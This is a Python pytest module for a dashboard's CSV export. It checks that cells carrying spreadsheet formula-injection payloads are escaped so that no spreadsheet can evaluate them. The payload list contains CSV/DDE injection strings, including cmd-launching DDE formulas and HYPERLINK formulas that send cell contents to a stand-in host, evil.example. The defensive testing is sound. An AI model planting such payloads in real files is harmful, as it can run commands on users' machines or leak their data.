"""CSV packs hold no cell a spreadsheet could evaluate, whatever column the payload arrives in.

Events whose every text field holds a formula-like payload (leading `=`, `+`, `-`, `@`, tab,
CR, LF, the same after spaces or invisible characters, full-width `＝＋－＠`, DDE payloads) are
stored in a real DuckDB file through the ingest pipeline; real packs are built for unmasked
and masked roles, and every cell of each CSV file is checked the way a spreadsheet reads it.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from dashboard.access.users import Actor
from dashboard.filters import Filters
from dashboard.ingest.geo import default_locator
from dashboard.ingest.pipeline import Ingestor
from dashboard.packs.build import PackSettings, build_pack
from dashboard.packs.model import PackRequest
from dashboard.store.db import Database
from tests.conftest import GEO_DIR

END = datetime(2026, 6, 30, tzinfo=UTC)
PAYLOADS: tuple[str, ...] = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    " \t+cmd|' /C calc'!A0",
    "\u00a0-2+3+cmd|' /C calc'!A0",
    "\u3000@SUM(1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '  ＝HYPERLINK("http://evil.example")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "-3",
    "+33 1 23 45 67 89",
    "\t",
)
#: what a spreadsheet skips before deciding whether a cell is a formula
_SKIPPED = ("Zs", "Zl", "Zp", "Cc", "Cf")
_FORMULA_FIRST = set("=+-@＝＋－＠")


def evaluable(cell: str) -> bool:
    """Whether a spreadsheet could run the cell: a control character first, or a formula
    character after any spaces, control or invisible characters."""
    if not cell:
        return False
    if unicodedata.category(cell[0]) == "Cc":
        return True
    rest = cell
    while rest and unicodedata.category(rest[0]) in _SKIPPED:
        rest = rest[1:]
    return bool(rest) and rest[0] in _FORMULA_FIRST


def _event(n: int, payload: str) -> dict[str, Any]:
    """An event whose every free-text field holds `payload` (the id keeps it unique)."""
    person = f"{payload} Souza"
    return {
        "id": f"{payload}{n}",
        "occurred_at": f"2026-06-{10 + n % 10:02d}T09:{n % 60:02d}:00Z",
        "account_id": payload,
        "action": "settings.update",
        "outcome": "failure",
        "reason": payload,
        "actor": {"id": payload, "name": person, "email": f"{payload}@example.com", "role": payload},
        "target": {"type": payload, "id": payload, "name": person},
        "ip": "198.51.100.23",
        "user_agent": payload,
        "session_id": payload,
        "request_id": payload,
        "changes": {payload: [payload, payload]},
        "metadata": {"note": payload},
    }


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Database, Path, int]]:
    tmp = tmp_path_factory.mktemp("csv-formula")
    db = Database(tmp / "formula.duckdb")
    ingestor = Ingestor(db, default_locator(GEO_DIR), 10_000)
    docs = [_event(n, p) for n, p in enumerate(PAYLOADS)]
    result = ingestor.ingest_batch([(i, json.dumps(d)) for i, d in enumerate(docs)], "=file:evil.ndjson")
    # the contract may refuse a few payloads in some fields; most must be stored to test anything
    assert result.accepted >= len(PAYLOADS) - 3, result
    try:
        yield db, tmp / "reports", result.accepted
    finally:
        db.close()


def _csv_rows(db: Database, reports: Path, role: str, masked: bool) -> list[list[str]]:
    request = PackRequest(
        filters=Filters.from_query({"from": "2026-06-01", "to": "2026-06-29"}),
        formats=("csv",),
        actor=Actor("cora", role),
        role=role,
        now=END,
        masked=masked,
    )
    result = build_pack(db, PackSettings(reports_dir=reports, organisation="Acme"), request)
    path = next(p for p in result.paths() if p.name.endswith(".csv"))
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def test_the_check_knows_a_formula_when_it_sees_one() -> None:
    assert all(evaluable(p) for p in PAYLOADS)
    assert not any(evaluable(s) for s in ("'=1+1", "a=b", "Ana S.", "2026-06-10T09:00:00Z", "", '{"a": 1}'))


@pytest.mark.parametrize(("role", "masked"), [("compliance", False), ("admin", False), ("manager", True)])
def test_no_cell_of_a_pack_can_be_evaluated(store: tuple[Database, Path, int], role: str, masked: bool) -> None:
    db, reports, stored = store
    rows = _csv_rows(db, reports, role, masked)
    header, body = rows[0], rows[1:]
    assert len(body) == stored
    bad = [(header[i], cell) for row in body for i, cell in enumerate(row) if evaluable(cell)]
    assert not bad, bad[:10]
    # the payloads are still there to read, behind one quote
    reasons = {row[header.index("reason")] for row in body}
    assert "'-3" in reasons and "'+33 1 23 45 67 89" in reasons and "'=1+1" in reasons
    names = [row[header.index("actor_name")] for row in body]
    assert any(n.startswith("'") for n in names)
    if masked:
        assert "changes" not in header and "metadata" not in header
        assert all(row[header.index("ip")].endswith(".x") for row in body)
    else:
        assert "'=1+1 Souza" in names
